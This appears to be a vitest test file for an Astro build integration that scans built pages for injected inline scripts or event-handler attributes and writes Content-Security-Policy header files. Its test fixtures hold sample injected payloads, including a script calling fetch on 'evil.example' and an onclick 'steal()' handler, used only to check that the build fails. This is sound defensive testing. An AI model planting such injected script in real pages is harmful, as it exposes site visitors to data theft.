/**
 * The security-headers integration: at the end of a build it checks every page for script the
 * project did not write, then writes `_headers` and `security-headers.conf` with a policy that
 * allows only the project's own inline scripts. The hooks are run as `astro build` runs them,
 * on a folder of pages.
 */
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, describe, expect, test } from 'vitest';
import { securityHeaderFiles } from '../../../src/astro/integrations/security-headers.ts';
import { observeRenderedPage } from '../../../src/astro/rendered-pages.ts';
import { THEME_SCRIPT } from '../../../src/browser/inline-scripts.ts';
import { REGISTER_SERVICE_WORKER_SCRIPT } from '../../../src/browser/register-service-worker.ts';

const sha = (text: string) => `sha256-${createHash('sha256').update(text).digest('base64')}`;

const folders: string[] = [];
afterAll(async () => {
  await Promise.all(folders.map((folder) => rm(folder, { recursive: true, force: true })));
});

type ConfigSetup = (options: { config: { base: string; cacheDir?: URL } }) => void;
type BuildDone = (options: { dir: URL; logger: { info: (message: string) => void } }) => Promise<void>;

/** A built site: `pages` written into a fresh folder. */
async function siteFolder(pages: Record<string, string>): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'dispatch-csp-'));
  folders.push(dir);
  for (const [path, html] of Object.entries(pages)) {
    await mkdir(dirname(join(dir, path)), { recursive: true });
    await writeFile(join(dir, path), html);
  }
  return dir;
}

/**
 * Runs the integration's hooks on a folder of pages, as `astro build` does: the config hook
 * (only when a base is given), then build-done. With `rendered`, the build starts first and
 * those pages pass through the middleware's function before build-done, as Astro renders them
 * (they are not written to the folder: what is checked is what was rendered). Returns the
 * folder and the lines logged.
 */
async function runHooks(
  pages: Record<string, string>,
  base?: string,
  rendered: Record<string, string> = {},
): Promise<{ dir: string; logged: string[] }> {
  const dir = await siteFolder(pages);
  const integration = securityHeaderFiles();
  if (base !== undefined)
    (integration.hooks['astro:config:setup'] as unknown as ConfigSetup)({ config: { base } });
  if (Object.keys(rendered).length > 0) {
    (integration.hooks['astro:build:start'] as unknown as () => void)();
    for (const [pathname, html] of Object.entries(rendered)) {
      const response = new Response(html, { headers: { 'Content-Type': 'text/html' } });
      await observeRenderedPage(pathname, () => Promise.resolve(response));
    }
  }
  const logged: string[] = [];
  const buildDone = integration.hooks['astro:build:done'] as unknown as BuildDone;
  await buildDone({ dir: pathToFileURL(`${dir}/`), logger: { info: (line) => logged.push(line) } });
  return { dir, logged };
}

/** Runs the integration's build-done hook on a folder of pages and returns `_headers`. */
async function runBuildDone(pages: Record<string, string>): Promise<string> {
  const { dir } = await runHooks(pages);
  return readFile(join(dir, '_headers'), 'utf8');
}

const ownPage = `<html><head><script>${THEME_SCRIPT}</script></head><body><p>Story</p></body></html>`;
/** The hash sources of the project's own inline scripts, in the order the policy lists them. */
const ownSources = [sha(THEME_SCRIPT), sha(REGISTER_SERVICE_WORKER_SCRIPT)]
  .sort()
  .map((hash) => `'${hash}'`)
  .join(' ');

describe('the security-headers build step (issue 13, finding 8)', () => {
  test('writes a policy with the hashes of our own scripts only (theme, service worker registration)', async () => {
    const headers = await runBuildDone({ 'index.html': ownPage, 'articles/a/index.html': ownPage });
    const scriptSources = /script-src ([^;]*)/.exec(headers)?.[1];
    expect(scriptSources).toBe(`'self' 'wasm-unsafe-eval' ${ownSources}`);
  });

  test('throws, naming the page, when a built page holds an injected inline script', async () => {
    const injected = ownPage.replace('<p>Story</p>', '<p>Story</p><script>fetch("//evil.example")</script>');
    await expect(
      runBuildDone({ 'index.html': ownPage, 'articles/hacked/index.html': injected }),
    ).rejects.toThrow(/articles\/hacked\/index\.html: inline script sha256-/);
  });

  test('throws, naming the page, when a built page holds an onclick attribute', async () => {
    const injected = ownPage.replace('<p>Story</p>', '<p onclick="steal()">Story</p>');
    await expect(runBuildDone({ 'articles/click/index.html': injected })).rejects.toThrow(
      /articles\/click\/index\.html: event handler attribute onclick on <p>/,
    );
  });
});

describe('pages checked as they are rendered', () => {
  test('an injected script in a rendered page fails the build, naming the page it is written to', async () => {
    const injected = ownPage.replace('<p>Story</p>', '<p>Story</p><script>fetch("//evil.example")</script>');
    await expect(
      runHooks({ 'index.html': ownPage }, '/news/', {
        '/news/': ownPage,
        '/news/articles/hacked/': injected,
      }),
    ).rejects.toThrow(/articles\/hacked\/index\.html: inline script sha256-/);
  });

  test('a page that was rendered is not read again; one that was not (copied from public/) is', async () => {
    const injected = ownPage.replace('<p>Story</p>', '<p onclick="steal()">Story</p>');
    // On disk the rendered page is broken, but the check trusts what was rendered…
    const { logged } = await runHooks({ 'index.html': injected, 'articles/a/index.html': ownPage }, '/', {
      '/': ownPage,
    });
    expect(logged).toEqual(['security headers written (2 inline script hashes, 2 pages checked)']);
    // …and a page nobody rendered is read from disk.
    await expect(
      runHooks({ 'index.html': ownPage, 'legacy/page.html': injected }, '/', { '/': ownPage }),
    ).rejects.toThrow(/legacy\/page\.html: event handler attribute onclick on <p>/);
  });
});

describe('pages an incremental build kept', () => {
  /** Runs a build's hooks on `dir` with a cache folder, no page rendered (all kept). */
  async function buildKeepingAll(dir: string, cacheDir: string): Promise<string[]> {
    const integration = securityHeaderFiles();
    (integration.hooks['astro:config:setup'] as unknown as ConfigSetup)({
      config: { base: '/', cacheDir: pathToFileURL(`${cacheDir}/`) },
    });
    (integration.hooks['astro:build:start'] as unknown as () => void)();
    const logged: string[] = [];
    const buildDone = integration.hooks['astro:build:done'] as unknown as BuildDone;
    await buildDone({ dir: pathToFileURL(`${dir}/`), logger: { info: (line) => logged.push(line) } });
    return logged;
  }

  test('a page unchanged since an earlier build checked it is not read again; a changed one is', async () => {
    const dir = await siteFolder({ 'index.html': ownPage, 'articles/a/index.html': ownPage });
    const cacheDir = await siteFolder({});
    expect(await buildKeepingAll(dir, cacheDir)).toEqual([
      expect.stringContaining('(2 inline script hashes, 2 pages checked)'),
    ]);
    expect(await buildKeepingAll(dir, cacheDir)).toEqual([
      expect.stringContaining('2 pages checked, 2 of them unchanged since an earlier build checked them'),
    ]);
    // Written again after the check (another size, another time): read and checked again.
    const injected = ownPage.replace('<p>Story</p>', '<p>Story</p><script>fetch("//evil.example")</script>');
    await writeFile(join(dir, 'articles/a/index.html'), injected);
    await expect(buildKeepingAll(dir, cacheDir)).rejects.toThrow('articles/a/index.html');
  });

  test('what one output folder recorded is not trusted for another', async () => {
    const cacheDir = await siteFolder({});
    await buildKeepingAll(await siteFolder({ 'index.html': ownPage }), cacheDir);
    expect(await buildKeepingAll(await siteFolder({ 'index.html': ownPage }), cacheDir)).toEqual([
      expect.stringContaining('(2 inline script hashes, 1 page checked)'),
    ]);
  });
});

describe('the header files it writes', () => {
  test('scopes _headers to the base path from the config, with a trailing slash added', async () => {
    const { dir } = await runHooks({ 'index.html': ownPage }, '/news');
    const headers = await readFile(join(dir, '_headers'), 'utf8');
    expect(headers.split('\n')[0]).toBe('/news/*');
    expect(headers.split('\n').slice(2)).toEqual([
      '  X-Content-Type-Options: nosniff',
      '  Referrer-Policy: strict-origin-when-cross-origin',
      '  Permissions-Policy: camera=(), microphone=(), geolocation=(), payment=(), usb=(), browsing-topics=()',
      '  X-Frame-Options: DENY',
      '  Cross-Origin-Opener-Policy: same-origin',
      '',
    ]);
  });

  test('scopes _headers to the whole site without a config hook (base `/`)', async () => {
    const headers = await runBuildDone({ 'index.html': ownPage });
    expect(headers.split('\n')[0]).toBe('/*');
  });

  test('writes the same headers for nginx', async () => {
    const { dir } = await runHooks({ 'index.html': ownPage }, '/');
    const nginx = await readFile(join(dir, 'security-headers.conf'), 'utf8');
    expect(nginx.split('\n')).toHaveLength(7);
    expect(nginx).toContain(
      `add_header Content-Security-Policy "default-src 'none'; script-src 'self' 'wasm-unsafe-eval' ${ownSources}; `,
    );
    expect(nginx).toContain('add_header X-Frame-Options "DENY" always;\n');
  });

  test('checks pages in every folder and says how many it checked', async () => {
    const { logged } = await runHooks({
      'index.html': ownPage,
      'articles/a/index.html': ownPage,
      'topics/b/page/2/index.html': ownPage,
      'rss.xml': '<rss><script>not a page</script></rss>',
    });
    expect(logged).toEqual(['security headers written (2 inline script hashes, 3 pages checked)']);
  });

  test('writes nothing when a page fails the check', async () => {
    const dir = await siteFolder({
      'articles/hacked/index.html': ownPage.replace('<p>Story</p>', '<script>x()</script>'),
    });
    const buildDone = securityHeaderFiles().hooks['astro:build:done'] as unknown as BuildDone;
    await expect(
      buildDone({ dir: pathToFileURL(`${dir}/`), logger: { info: () => undefined } }),
    ).rejects.toThrow(/^1 built page holds script the project did not write/);
    expect(await readdir(dir)).toEqual(['articles']);
  });
});
